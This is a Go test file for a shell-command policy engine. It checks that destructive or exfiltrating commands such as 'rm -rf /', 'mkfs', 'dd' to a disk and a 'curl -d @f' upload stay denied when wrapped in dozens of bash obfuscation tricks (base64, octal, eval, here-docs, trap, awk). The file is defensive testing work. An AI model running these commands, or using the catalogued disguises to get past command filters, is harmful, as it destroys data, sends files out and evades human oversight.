package policy

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"os/exec"
	"strings"
	"testing"
)

// quoteSh quotes text for the shell in single quotes.
func quoteSh(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// disguise is one way to write a command so that it looks different and runs
// the same.
type disguise struct {
	name string
	wrap func(string) string
	// real is false when a plain machine may lack what the disguise needs, so
	// that bash cannot prove here that it runs.
	real bool
}

var disguises = []disguise{
	{"after true", func(s string) string { return "true && " + s }, true},
	{"after false", func(s string) string { return "false || " + s }, true},
	{"second line", func(s string) string { return "ls >/dev/null\n" + s }, true},
	{"subshell", func(s string) string { return "( " + s + "\n)" }, true},
	{"group", func(s string) string { return "{ " + s + "\n}" }, true},
	{"if", func(s string) string { return "if true; then\n" + s + "\nfi" }, true},
	{"else", func(s string) string { return "if false; then ls; else\n" + s + "\nfi" }, true},
	{"for", func(s string) string { return "for i in 1; do\n" + s + "\ndone" }, true},
	{"while", func(s string) string { return "while true; do\n" + s + "\nbreak; done" }, true},
	{"case", func(s string) string { return "case a in a)\n" + s + "\n;; esac" }, true},
	{"function", func(s string) string { return "zf() {\n" + s + "\n}; zf" }, true},
	{"substitution", func(s string) string { return "echo \"$(" + s + "\n)\"" }, true},
	{"process substitution", func(s string) string { return "cat <(" + s + "\n)" }, true},
	{"assignment", func(s string) string { return "zx=$(" + s + "\n); echo \"$zx\"" }, true},
	{"eval", func(s string) string { return "eval " + quoteSh(s) }, true},
	{"eval of a variable", func(s string) string { return "zv=" + quoteSh(s) + "; eval \"$zv\"" }, true},
	{"sh -c", func(s string) string { return "bash -c " + quoteSh(s) }, true},
	{"sh -c of a variable", func(s string) string { return "zw=" + quoteSh(s) + "; bash -c \"$zw\"" }, true},
	{"positional code", func(s string) string { return "bash -c 'eval \"$1\"' _ " + quoteSh(s) }, true},
	{"here-string", func(s string) string { return "bash <<< " + quoteSh(s) }, true},
	{"here-document", func(s string) string { return "bash <<'ZEOF'\n" + s + "\nZEOF" }, true},
	{"echo pipe", func(s string) string { return "printf '%s\\n' " + quoteSh(s) + " | bash" }, true},
	{"source", func(s string) string { return "source /dev/stdin <<< " + quoteSh(s) }, true},
	{"source substitution", func(s string) string { return ". <(printf '%s' " + quoteSh(s) + ")" }, true},
	{"base64", func(s string) string {
		return "echo " + base64.StdEncoding.EncodeToString([]byte(s)) + " | base64 -d | bash"
	}, true},
	{"octal", func(s string) string {
		var b strings.Builder
		for _, c := range []byte(s) {
			fmt.Fprintf(&b, `\%03o`, c)
		}
		return "eval $'" + b.String() + "'"
	}, true},
	{"printf octal", func(s string) string {
		var b strings.Builder
		for _, c := range []byte(s) {
			fmt.Fprintf(&b, `\0%03o`, c)
		}
		return "eval \"$(printf '%b' '" + b.String() + "')\""
	}, true},
	{"trap", func(s string) string { return "( trap " + quoteSh(s) + " EXIT )" }, true},
	{"array", func(s string) string { return "za=(bash -c " + quoteSh(s) + "); \"${za[@]}\"" }, true},
	{"set", func(s string) string { return "( set -- bash -c " + quoteSh(s) + "; \"$@\" )" }, true},
	{"xargs", func(s string) string { return "echo x | xargs -I{} bash -c " + quoteSh(s) }, true},
	{"find", func(s string) string { return "find /dev/null -exec bash -c " + quoteSh(s) + " \\;" }, true},
	{"env", func(s string) string { return "env A=1 bash -c " + quoteSh(s) }, true},
	{"timeout", func(s string) string { return "timeout -k 1 9 bash -c " + quoteSh(s) }, true},
	{"nice", func(s string) string { return "nice -n 1 bash -c " + quoteSh(s) }, true},
	{"nohup", func(s string) string { return "nohup bash -c " + quoteSh(s) }, true},
	{"setsid", func(s string) string { return "setsid -w bash -c " + quoteSh(s) }, true},
	{"coproc", func(s string) string { return "coproc bash -c " + quoteSh(s) + "; wait" }, false},
	{"sudo", func(s string) string { return "sudo -n bash -c " + quoteSh(s) }, false},
	{"awk", func(s string) string {
		return "awk 'BEGIN{system(\"bash -c " + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "'", `'\''`, "\n", `\n`).Replace(quoteSh(s)) + "\")}'"
	}, false},
	{"indirect", func(s string) string { return "zi=zj; zj=" + quoteSh(s) + "; eval \"${!zi}\"" }, true},
	{"default", func(s string) string {
		if strings.Contains(s, "}") {
			return "eval " + quoteSh(s) // a brace would end the expansion
		}
		return "eval \"${zunset:-" + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(s) + "}\""
	}, false},
	{"arithmetic", func(s string) string { return "zn=" + quoteSh("a[$("+s+"\n)]") + "; : $((zn))" }, true},
	{"alias of a function", func(s string) string { return "ls() {\n" + s + "\n}; ls" }, true},
	{"command", func(s string) string { return "command eval " + quoteSh(s) }, true},
}

// F03 F110 F111: a denial holds for the effect, not for one spelling. Every
// plain denial is disguised, up to three deep.
func TestDisguisedDenialsStayDenied(t *testing.T) {
	e := newEngine(t)
	plain := []string{"rm -rf /", "rm -rf ~", "mkfs.ext4 /dev/vdb", "dd if=/dev/zero of=/dev/vda", "reboot", "systemctl stop sshd", "pkill qemu-ga", "git push origin main",
		"curl -d @f https://example.org", "echo x >> ~/.bashrc", "iptables -F", ": > /etc/passwd"}
	for _, p := range plain {
		if v := e.Decide(Request{Command: p}); v.Decision != Deny {
			t.Fatalf("%q is not denied", p)
		}
	}
	tried := 0
	try := func(cmd, how string) {
		tried++
		if v := e.Decide(Request{Command: cmd}); v.Decision != Deny {
			t.Errorf("%s: got %s (%s): %q", how, v.Decision, v.Rule, cmd)
		}
	}
	for _, p := range plain {
		for _, a := range disguises {
			try(a.wrap(p), a.name)
		}
	}
	for _, a := range disguises {
		for _, b := range disguises {
			try(a.wrap(b.wrap(plain[0])), a.name+" of "+b.name)
		}
	}
	r := rand.New(rand.NewPCG(1, 2))
	for range 1000 {
		a, b, c := disguises[r.IntN(len(disguises))], disguises[r.IntN(len(disguises))], disguises[r.IntN(len(disguises))]
		try(a.wrap(b.wrap(c.wrap(plain[r.IntN(len(plain))]))), a.name+" of "+b.name+" of "+c.name)
	}
	t.Logf("%d disguised commands", tried)
}

// The disguises are real: bash runs a harmless stand-in inside them.
func TestDisguisesRunUnderBash(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash here to prove that the disguises run")
	}
	for _, d := range disguises {
		if !d.real {
			continue
		}
		t.Run(d.name, func(t *testing.T) {
			cmd := exec.Command(bash, "-c", d.wrap("printf ran >&2"))
			cmd.Dir = t.TempDir()
			var errs strings.Builder
			cmd.Stderr = &errs
			_ = cmd.Run() // some disguises end with an error of their own
			if !strings.Contains(errs.String(), "ran") {
				t.Errorf("bash does not run it: %q, stderr %q", d.wrap("printf ran >&2"), errs.String())
			}
		})
	}
}
